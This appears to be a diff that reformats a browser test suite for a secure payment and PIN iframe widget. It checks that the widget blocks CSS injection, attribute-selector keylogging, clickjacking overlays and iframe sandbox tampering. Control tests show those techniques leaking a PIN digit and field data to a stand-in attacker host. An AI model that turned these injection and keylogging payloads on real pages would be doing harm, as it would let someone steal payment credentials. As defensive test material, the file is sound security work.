@@ -1,22 +1,22 @@
 // @ts-check
 // Rows 21 to 25: looks, sizes and attributes, which are the page's to choose.
-import assert from "node:assert/strict";
-import { describe } from "node:test";
-import { By } from "selenium-webdriver";
-import { clickOn, press } from "../browser/support/keys.mjs";
-import { until } from "../browser/support/wait.mjs";
-import { VISIBILITY } from "./support/features.mjs";
-import { row } from "./support/row.mjs";
-import { useAttackScene } from "./support/scene.mjs";
-import { CARD, OTHER_CARD, PIN, SSN, USES } from "./support/victim.mjs";
+import assert from 'node:assert/strict';
+import { describe } from 'node:test';
+import { By } from 'selenium-webdriver';
+import { clickOn, press } from '../browser/support/keys.mjs';
+import { until } from '../browser/support/wait.mjs';
+import { VISIBILITY } from './support/features.mjs';
+import { row } from './support/row.mjs';
+import { useAttackScene } from './support/scene.mjs';
+import { CARD, OTHER_CARD, PIN, SSN, USES } from './support/victim.mjs';
 
-describe("style and layout", () => {
+describe('style and layout', () => {
   const scene = useAttackScene();
 
   /** @param {string} name */
   const isLeaked = (name) => scene.attacker.log().includes(`GET /leak?${name}`);
 
-  row("21 style values that fetch, match or end something", ({ attack, control }) => {
+  row('21 style values that fetch, match or end something', ({ attack, control }) => {
     /** @param {string} url */
     const hostile = (url) => [
       `url(${url})`,
@@ -40,11 +40,18 @@ describe("style and layout", () => {
       `</style><img src=${url}>`,
     ];
 
-    attack("all are refused as a whole, and nothing is asked for", async () => {
-      const victim = await scene.victim("pin");
-      await victim.type("pin", PIN);
-      const values = hostile(scene.evil("leak?vault"));
-      const names = ["colorBackground", "fontFamily", "fontSize", "lineHeight", "--background", "__proto__"];
+    attack('all are refused as a whole, and nothing is asked for', async () => {
+      const victim = await scene.victim('pin');
+      await victim.type('pin', PIN);
+      const values = hostile(scene.evil('leak?vault'));
+      const names = [
+        'colorBackground',
+        'fontFamily',
+        'fontSize',
+        'lineHeight',
+        '--background',
+        '__proto__',
+      ];
       await victim.run(
         `const [names, values] = arguments;
         for (const name of names) for (const value of values) {
@@ -53,96 +60,137 @@ describe("style and layout", () => {
         names,
         values,
       );
-      await until("each is refused", async () => {
-        const refused = (await victim.told()).filter(({ type, detail }) => type === "error" && detail.code === "invalid-options");
+      await until('each is refused', async () => {
+        const refused = (await victim.told()).filter(
+          ({ type, detail }) => type === 'error' && detail.code === 'invalid-options',
+        );
         return refused.length === names.length * values.length;
       });
-      assert.equal(await victim.inside("pin", "return document.documentElement.style.cssText"), "");
+      assert.equal(await victim.inside('pin', 'return document.documentElement.style.cssText'), '');
       await scene.settle();
-      assert.ok(!isLeaked("vault"));
-      assert.equal(await victim.field("pin").value(), PIN);
+      assert.ok(!isLeaked('vault'));
+      assert.equal(await victim.field('pin').value(), PIN);
     });
-    attack("texts for people are texts", async () => {
-      const text = `<img src=${scene.evil("leak?label")}><style>*{background:url(${scene.evil("leak?label")})}</style>`;
+    attack('texts for people are texts', async () => {
+      const text = `<img src=${scene.evil('leak?label')}><style>*{background:url(${scene.evil('leak?label')})}</style>`;
       const victim = await scene.victimPage();
-      const fields = [{ name: "pin", kind: "pin", options: { label: text.slice(0, 80), placeholder: text.slice(0, 80) } }];
-      await scene.open(victim, "pin", { fields, session: { locale: `en"><style>*{background:url(${scene.evil("leak?label")})}` } });
-      assert.equal(await victim.inside("pin", "return document.querySelector('label').textContent"), text.slice(0, 80));
+      const fields = [
+        {
+          name: 'pin',
+          kind: 'pin',
+          options: { label: text.slice(0, 80), placeholder: text.slice(0, 80) },
+        },
+      ];
+      await scene.open(victim, 'pin', {
+        fields,
+        session: { locale: `en"><style>*{background:url(${scene.evil('leak?label')})}` },
+      });
+      assert.equal(
+        await victim.inside('pin', "return document.querySelector('label').textContent"),
+        text.slice(0, 80),
+      );
       // One style is the field's own, in its head and named by hash in its policy.
-      assert.equal(await victim.inside("pin", "return document.querySelectorAll('img, body style').length"), 0);
-      assert.equal(await victim.inside("pin", "return document.querySelectorAll('style').length"), 1);
-      assert.ok(!isLeaked("label"));
+      assert.equal(
+        await victim.inside('pin', "return document.querySelectorAll('img, body style').length"),
+        0,
+      );
+      assert.equal(
+        await victim.inside('pin', "return document.querySelectorAll('style').length"),
+        1,
+      );
+      assert.ok(!isLeaked('label'));
     });
     attack("words in place of the frame's are texts, and stand nowhere but there", async () => {
-      const text = `<img src=${scene.evil("leak?word")}><style>*{background:red}</style>`.slice(0, 80);
-      const words = { cardNumber: text, show: text, copy: text, hidden: "4 1 1 1", covered: text };
+      const text = `<img src=${scene.evil('leak?word')}><style>*{background:red}</style>`.slice(
+        0,
+        80,
+      );
+      const words = { cardNumber: text, show: text, copy: text, hidden: '4 1 1 1', covered: text };
       const victim = await scene.viewedCard({ session: { words } });
       const READ = `
         const at = (selector, name) => [...document.querySelectorAll(selector)].map((e) => name ? e.getAttribute(name) : e.textContent);
         return [at(".label"), at("button", "aria-label"), at(".seen"), at("img, body style")];`;
-      const [labels, buttons, seen, made] = await victim.inside("number", READ);
+      const [labels, buttons, seen, made] = await victim.inside('number', READ);
       assert.deepEqual([labels, buttons], [[text], [`${text}: ${text}`, `${text}: ${text}`]]);
       assert.deepEqual(made, []);
-      assert.ok(/^[•\s]+$/.test(seen[0]), "the mask is no word");
-      assert.ok((await victim.reveal("number")).seen.startsWith(CARD.number.slice(0, 4)), "and neither is the number");
+      assert.ok(/^[•\s]+$/.test(seen[0]), 'the mask is no word');
+      assert.ok(
+        (await victim.reveal('number')).seen.startsWith(CARD.number.slice(0, 4)),
+        'and neither is the number',
+      );
       await scene.settle();
-      assert.ok(!isLeaked("word"));
+      assert.ok(!isLeaked('word'));
     });
-    attack("words that turn, break or stretch what stands beside them are refused, and the session with them", async () => {
-      const victim = await scene.victimPage();
-      const token = await scene.tokenFor("pin");
-      for (const words of [{ show: "\u202e0000" }, { show: "a\nb" }, { show: "a".repeat(81) }, { show: { html: "a" } }, { hide: "a" }]) {
-        const end = await victim.open({ ...USES.pin, token, session: { words } });
-        assert.equal("error" in end && end.error.code, "invalid-options", JSON.stringify(words));
-      }
-    });
-    control("a page that writes them into a style sheet asks the attacker", async () => {
-      await scene.visit("/clipboard.html");
+    attack(
+      'words that turn, break or stretch what stands beside them are refused, and the session with them',
+      async () => {
+        const victim = await scene.victimPage();
+        const token = await scene.tokenFor('pin');
+        for (const words of [
+          { show: '\u202e0000' },
+          { show: 'a\nb' },
+          { show: 'a'.repeat(81) },
+          { show: { html: 'a' } },
+          { hide: 'a' },
+        ]) {
+          const end = await victim.open({ ...USES.pin, token, session: { words } });
+          assert.equal('error' in end && end.error.code, 'invalid-options', JSON.stringify(words));
+        }
+      },
+    );
+    control('a page that writes them into a style sheet asks the attacker', async () => {
+      await scene.visit('/clipboard.html');
       await scene.driver.executeScript(
         "document.head.append(Object.assign(document.createElement('style'), { textContent: `input { color: ${arguments[0]} }` }));",
-        `red; background: url(${scene.evil("leak?plain")})`,
+        `red; background: url(${scene.evil('leak?plain')})`,
       );
-      await until("it is asked", () => isLeaked("plain"));
+      await until('it is asked', () => isLeaked('plain'));
     });
   });
 
-  row("22 attribute selectors on what is typed or shown", ({ attack, control }) => {
+  row('22 attribute selectors on what is typed or shown', ({ attack, control }) => {
     const ATTRIBUTES = `
       return [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.value)).concat(document.title);`;
 
-    attack("no attribute ever holds it", async () => {
-      const pin = await scene.victim("pin");
-      await pin.type("pin", PIN);
-      await pin.field("pin").toggle();
-      assert.equal(await pin.field("pin").value(), PIN);
-      assert.ok(!(await pin.inside("pin", ATTRIBUTES)).join("\n").includes(PIN));
+    attack('no attribute ever holds it', async () => {
+      const pin = await scene.victim('pin');
+      await pin.type('pin', PIN);
+      await pin.field('pin').toggle();
+      assert.equal(await pin.field('pin').value(), PIN);
+      assert.ok(!(await pin.inside('pin', ATTRIBUTES)).join('\n').includes(PIN));
 
-      const person = await scene.victim("ssn");
-      await person.type("ssn", SSN);
-      assert.ok(!(await person.inside("ssn", ATTRIBUTES)).join("\n").replaceAll("-", "").includes(SSN));
+      const person = await scene.victim('ssn');
+      await person.type('ssn', SSN);
+      assert.ok(
+        !(await person.inside('ssn', ATTRIBUTES)).join('\n').replaceAll('-', '').includes(SSN),
+      );
 
       const card = await scene.viewedCard();
-      const { seen } = await card.reveal("number");
-      const attributes = (await card.inside("number", ATTRIBUTES)).join("\n");
-      for (const part of [CARD.number, ...seen.split(" ")]) assert.ok(!attributes.includes(part), attributes);
+      const { seen } = await card.reveal('number');
+      const attributes = (await card.inside('number', ATTRIBUTES)).join('\n');
+      for (const part of [CARD.number, ...seen.split(' ')])
+        assert.ok(!attributes.includes(part), attributes);
     });
-    control("of an input that reflects its value, a style sheet tells the first digit", async () => {
-      await scene.visit("/clipboard.html");
-      const { driver } = scene;
-      await driver.executeScript(
-        `const input = document.querySelector("input");
+    control(
+      'of an input that reflects its value, a style sheet tells the first digit',
+      async () => {
+        await scene.visit('/clipboard.html');
+        const { driver } = scene;
+        await driver.executeScript(
+          `const input = document.querySelector("input");
         input.addEventListener("input", () => input.setAttribute("value", input.value));
         const rules = Array.from({ length: 10 }, (_, digit) => \`input[value^="\${digit}"] { background: url(\${arguments[0]}\${digit}) }\`);
         document.head.append(Object.assign(document.createElement("style"), { textContent: rules.join("\\n") }));`,
-        scene.evil("leak?first"),
-      );
-      await clickOn(driver, await driver.findElement(By.css("input")));
-      await press(driver, PIN);
-      await until("the attacker knows it", () => isLeaked(`first${PIN[0]}`));
-    });
+          scene.evil('leak?first'),
+        );
+        await clickOn(driver, await driver.findElement(By.css('input')));
+        await press(driver, PIN);
+        await until('the attacker knows it', () => isLeaked(`first${PIN[0]}`));
+      },
+    );
   });
 
-  row("23 resize and change messages", ({ attack, control }) => {
+  row('23 resize and change messages', ({ attack, control }) => {
     /** Everything that the page hears and sees of a field while something is done. */
     const SEE = `
       window.seen = [];
@@ -165,124 +213,158 @@ describe("style and layout", () => {
     async function transcript(text, again) {
       const victim = await scene.victimPage();
       await victim.run(SEE);
-      await scene.open(victim, again === undefined ? "ssn" : "pin");
+      await scene.open(victim, again === undefined ? 'ssn' : 'pin');
       // Which frame is ready first is a matter of chance.
-      await victim.run("seen.length = 0");
-      await victim.type(again === undefined ? "ssn" : "pin", text);
+      await victim.run('seen.length = 0');
+      await victim.type(again === undefined ? 'ssn' : 'pin', text);
       if (again !== undefined) {
-        await victim.type("again", again);
+        await victim.type('again', again);
         await victim.call();
       } else {
-        // An answer comes after all else; without a call, what the last key brings may still be on its way.
-        await until("the last key is told", () => victim.run(`return seen.some((line) => line.includes('"complete":true'))`));
+        // An answer comes after all else; without a call, what the last key brings may still be on
+        // its way.
+        await until('the last key is told', () =>
+          victim.run(`return seen.some((line) => line.includes('"complete":true'))`),
+        );
       }
       return victim.run(LOOK);
     }
 
-    attack("they are the same for any PIN, and for any number of digits that is not yet one", async () => {
-      assert.equal(await transcript(PIN, "0000"), await transcript("1937", "5555"));
-      assert.equal(await transcript("8", PIN), await transcript("193", "7777"));
-    });
-    attack("and for any SSN, and any card that is shown", async () => {
-      assert.equal(await transcript(SSN), await transcript("219099998"));
+    attack(
+      'they are the same for any PIN, and for any number of digits that is not yet one',
+      async () => {
+        assert.equal(await transcript(PIN, '0000'), await transcript('1937', '5555'));
+        assert.equal(await transcript('8', PIN), await transcript('193', '7777'));
+      },
+    );
+    attack('and for any SSN, and any card that is shown', async () => {
+      assert.equal(await transcript(SSN), await transcript('219099998'));
       const shown = [];
       for (const { id, number } of [CARD, OTHER_CARD]) {
         const victim = await scene.victimPage();
         await victim.run(SEE);
-        await scene.open(victim, "card", { token: await scene.tokenFor("card", { id }), input: { paymentCardId: id } });
-        await victim.run("seen.length = 0");
+        await scene.open(victim, 'card', {
+          token: await scene.tokenFor('card', { id }),
+          input: { paymentCardId: id },
+        });
+        await victim.run('seen.length = 0');
         const outcome = await victim.call();
-        assert.ok("ok" in outcome);
-        await victim.reveal("number");
+        assert.ok('ok' in outcome);
+        await victim.reveal('number');
         const { last4, network } = /** @type {any} */ (outcome.ok);
         const said = await victim.run(LOOK);
-        shown.push(said.replaceAll(id, "id").replaceAll(last4, "last4").replaceAll(network, "network"));
+        shown.push(
+          said.replaceAll(id, 'id').replaceAll(last4, 'last4').replaceAll(network, 'network'),
+        );
         assert.ok(!said.includes(number));
       }
       assert.equal(shown[0], shown[1]);
     });
     control("an input of the page's own tells the length", async () => {
       const lengths = [];
-      for (const text of ["8", "193"]) {
-        await scene.visit("/clipboard.html");
+      for (const text of ['8', '193']) {
+        await scene.visit('/clipboard.html');
         const { driver } = scene;
-        await driver.executeScript("window.seen = []; addEventListener('input', () => seen.push('change'), true);");
-        await clickOn(driver, await driver.findElement(By.css("input")));
+        await driver.executeScript(
+          "window.seen = []; addEventListener('input', () => seen.push('change'), true);",
+        );
+        await clickOn(driver, await driver.findElement(By.css('input')));
         await press(driver, text);
-        lengths.push(await driver.executeScript("return seen.length"));
+        lengths.push(await driver.executeScript('return seen.length'));
       }
       assert.deepEqual(lengths, [1, 3]);
     });
   });
 
-  row("24 a field that is hidden, covered or made small at the moment of reveal or copy", ({ attack, control }) => {
-    /** What hides a frame's content from its owner's eyes and leaves it to be clicked. @type {Record<string, string>} */
-    const TRICKS = {
-      transparent: "frame.style.opacity = '0'",
-      "nearly transparent, by an ancestor": "frame.parentElement.style.opacity = '0.01'",
-      clipped: "frame.style.clipPath = 'inset(0 0 0 80%)'",
-      transformed: "frame.style.transform = 'rotate(1deg)'",
-      filtered: "frame.style.filter = 'brightness(0)'",
-      "covered by what lets clicks through": `
+  row(
+    '24 a field that is hidden, covered or made small at the moment of reveal or copy',
+    ({ attack, control }) => {
+      /** What hides a frame's content from its owner's eyes and leaves it to be clicked. @type {Record<string, string>} */
+      const TRICKS = {
+        transparent: "frame.style.opacity = '0'",
+        'nearly transparent, by an ancestor': "frame.parentElement.style.opacity = '0.01'",
+        clipped: "frame.style.clipPath = 'inset(0 0 0 80%)'",
+        transformed: "frame.style.transform = 'rotate(1deg)'",
+        filtered: "frame.style.filter = 'brightness(0)'",
+        'covered by what lets clicks through': `
         const cover = document.createElement("div");
         const { left, top, width, height } = frame.getBoundingClientRect();
         cover.style.cssText = \`position:fixed;left:\${left}px;top:\${top}px;width:\${width}px;height:\${height}px;background:red;pointer-events:none\`;
         document.body.append(cover);`,
-    };
-    const NARROW = "frame.style.width = '90px'";
+      };
+      const NARROW = "frame.style.width = '90px'";
 
-    /**
-     * @param {import("./support/victim.mjs").Victim} victim
-     * @param {string} trick
-     */
-    async function isCovered(victim, trick) {
-      const before = (await victim.told()).filter(({ type }) => type === "error").length;
-      await victim.run(`const frame = victim.frame("number"); ${trick}`);
-      // Waits until the field knows how it is seen: in the open it would be let through.
-      await until("it is refused", async () => {
-        await victim.clickReveal("number");
-        const { revealed } = await victim.shown("number");
-        assert.equal(revealed, false, `revealed although ${trick}`);
-        return (await victim.told()).filter(({ type, detail }) => type === "error" && detail.code === "covered").length > before;
+      /**
+       * @param {import("./support/victim.mjs").Victim} victim
+       * @param {string} trick
+       */
+      async function isCovered(victim, trick) {
+        const before = (await victim.told()).filter(({ type }) => type === 'error').length;
+        await victim.run(`const frame = victim.frame("number"); ${trick}`);
+        // Waits until the field knows how it is seen: in the open it would be let through.
+        await until('it is refused', async () => {
+          await victim.clickReveal('number');
+          const { revealed } = await victim.shown('number');
+          assert.equal(revealed, false, `revealed although ${trick}`);
+          return (
+            (await victim.told()).filter(
+              ({ type, detail }) => type === 'error' && detail.code === 'covered',
+            ).length > before
+          );
+        });
+        await victim.clickCopy('number');
+        assert.ok(
+          !(await victim.told()).some(({ type }) => type === 'copy'),
+          `copied although ${trick}`,
+        );
+      }
+
+      for (const [what, trick] of Object.entries(TRICKS)) {
+        attack(
+          `${what}: nothing is revealed or copied`,
+          async () => isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), trick),
+          VISIBILITY,
+        );
+      }
+      attack('too small to be read: nothing is revealed or copied', async () => {
+        await isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), NARROW);
       });
-      await victim.clickCopy("number");
-      assert.ok(!(await victim.told()).some(({ type }) => type === "copy"), `copied although ${trick}`);
-    }
-
-    for (const [what, trick] of Object.entries(TRICKS)) {
       attack(
-        `${what}: nothing is revealed or copied`,
-        async () => isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), trick),
-        VISIBILITY,
+        'a value that comes into a field that was opened for another takes a gesture of its own',
+        async () => {
+          const tokens = [
+            { give: await scene.tokenFor('card') },
+            { give: await scene.tokenFor('card', { id: OTHER_CARD.id }) },
+          ];
+          const victim = await scene.viewedCard({ tokens });
+          await victim.reveal('number');
+          assert.ok('ok' in (await victim.call()));
+          assert.ok(
+            (await victim.shown('number')).revealed,
+            'the same, read again, stays as it is',
+          );
+          const other = { paymentCardId: OTHER_CARD.id };
+          // Refused, since the token is for the first card; after that another is asked for.
+          await victim.call(other);
+          assert.ok('ok' in (await victim.call(other)));
+          const { seen, revealed, usable } = await victim.shown('number');
+          assert.deepEqual([/\d/.test(seen), revealed, usable], [false, false, true]);
+          assert.equal(
+            (await victim.reveal('number')).seen.replaceAll(/\D/g, ''),
+            OTHER_CARD.number,
+          );
+        },
       );
-    }
-    attack("too small to be read: nothing is revealed or copied", async () => {
-      await isCovered(await scene.viewedCard({ fields: [USES.card.fields[0]] }), NARROW);
-    });
-    attack("a value that comes into a field that was opened for another takes a gesture of its own", async () => {
-      const tokens = [{ give: await scene.tokenFor("card") }, { give: await scene.tokenFor("card", { id: OTHER_CARD.id }) }];
-      const victim = await scene.viewedCard({ tokens });
-      await victim.reveal("number");
-      assert.ok("ok" in (await victim.call()));
-      assert.ok((await victim.shown("number")).revealed, "the same, read again, stays as it is");
-      const other = { paymentCardId: OTHER_CARD.id };
-      // Refused, since the token is for the first card; after that another is asked for.
-      await victim.call(other);
-      assert.ok("ok" in (await victim.call(other)));
-      const { seen, revealed, usable } = await victim.shown("number");
-      assert.deepEqual([/\d/.test(seen), revealed, usable], [false, false, true]);
-      assert.equal((await victim.reveal("number")).seen.replaceAll(/\D/g, ""), OTHER_CARD.number);
-    });
-    control("in the open, the same click reveals", async () => {
-      const victim = await scene.viewedCard({ fields: [USES.card.fields[0]] });
-      assert.ok((await victim.reveal("number")).revealed);
-    });
-    control("a button in a plain frame is clicked under each of them", async () => {
-      for (const trick of [...Object.values(TRICKS), NARROW]) {
-        await scene.visit("/clipboard.html");
-        const { driver } = scene;
-        await driver.executeAsyncScript(
-          `const done = arguments[0];
+      control('in the open, the same click reveals', async () => {
+        const victim = await scene.viewedCard({ fields: [USES.card.fields[0]] });
+        assert.ok((await victim.reveal('number')).revealed);
+      });
+      control('a button in a plain frame is clicked under each of them', async () => {
+        for (const trick of [...Object.values(TRICKS), NARROW]) {
+          await scene.visit('/clipboard.html');
+          const { driver } = scene;
+          await driver.executeAsyncScript(
+            `const done = arguments[0];
           window.clicks = 0;
           const place = document.createElement("div");
           const frame = document.createElement("iframe");
@@ -291,16 +373,17 @@ describe("style and layout", () => {
           frame.onload = () => { ${trick}; done(); };
           place.append(frame);
           document.body.append(place);`,
-        );
-        await driver.switchTo().frame(await driver.findElement(By.id("plain")));
-        await clickOn(driver, await driver.findElement(By.id("t")));
-        await driver.switchTo().defaultContent();
-        assert.equal(await driver.executeScript("return clicks"), 1, trick);
-      }
-    });
-  });
+          );
+          await driver.switchTo().frame(await driver.findElement(By.id('plain')));
+          await clickOn(driver, await driver.findElement(By.id('t')));
+          await driver.switchTo().defaultContent();
+          assert.equal(await driver.executeScript('return clicks'), 1, trick);
+        }
+      });
+    },
+  );
 
-  row("25 iframe attributes changed by the page", ({ attack, control }) => {
+  row('25 iframe attributes changed by the page', ({ attack, control }) => {
     const CHANGES = [
       "frame.removeAttribute('sandbox')",
       "frame.setAttribute('sandbox', 'allow-scripts')",
@@ -313,7 +396,7 @@ describe("style and layout", () => {
       "frame.setAttribute('referrerpolicy', 'unsafe-url')",
       "frame.setAttribute('srcdoc', '<p>mine</p>')",
     ];
-    attack("it works, or refuses with a clear error, and is never weaker", async () => {
+    attack('it works, or refuses with a clear error, and is never weaker', async () => {
       for (const change of CHANGES) {
         const victim = await scene.victimPage();
         await victim.run(
@@ -323,14 +406,18 @@ describe("style and layout", () => {
             set(value) { const frame = this; ${change}; window.changed = true; src.set.call(this, value); },
           });`,
         );
-        const end = await victim.open({ ...USES.pin, token: await scene.tokenFor("pin"), session: { timeout: 1_000 } });
-        assert.ok(await victim.run("return changed"), "the attack was made");
-        if ("error" in end) {
-          assert.equal(end.error.code, "frame-unavailable", change);
+        const end = await victim.open({
+          ...USES.pin,
+          token: await scene.tokenFor('pin'),
+          session: { timeout: 1_000 },
+        });
+        assert.ok(await victim.run('return changed'), 'the attack was made');
+        if ('error' in end) {
+          assert.equal(end.error.code, 'frame-unavailable', change);
           continue;
         }
-        await victim.type("pin", PIN);
-        assert.equal(await victim.field("pin").value(), PIN, change);
+        await victim.type('pin', PIN);
+        assert.equal(await victim.field('pin').value(), PIN, change);
         const reached = await victim.run(
           `return [...document.querySelectorAll("iframe")].some((frame) => {
             try { return frame.contentDocument !== null || Boolean(frame.contentWindow.document); } catch { return false; }
@@ -339,12 +426,19 @@ describe("style and layout", () => {
         assert.equal(reached, false, change);
       }
     });
-    control("a sandbox does what it says, and a document of the page's own is reached", async () => {
-      const frame = await scene.victimPage().then(() => scene.embed(scene.evil("frame.html"), "allow-forms"));
-      const ran = await scene.inside(frame, "return 'attacker' in window").catch(() => false);
-      assert.equal(ran, false, "its script does not run");
-      const own = await scene.embed(new URL("/clipboard.html", scene.addresses.app).href);
-      assert.ok(await scene.driver.executeScript("return arguments[0].contentDocument !== null", own));
-    });
+    control(
+      "a sandbox does what it says, and a document of the page's own is reached",
+      async () => {
+        const frame = await scene
+          .victimPage()
+          .then(() => scene.embed(scene.evil('frame.html'), 'allow-forms'));
+        const ran = await scene.inside(frame, "return 'attacker' in window").catch(() => false);
+        assert.equal(ran, false, 'its script does not run');
+        const own = await scene.embed(new URL('/clipboard.html', scene.addresses.app).href);
+        assert.ok(
+          await scene.driver.executeScript('return arguments[0].contentDocument !== null', own),
+        );
+      },
+    );
   });
 });
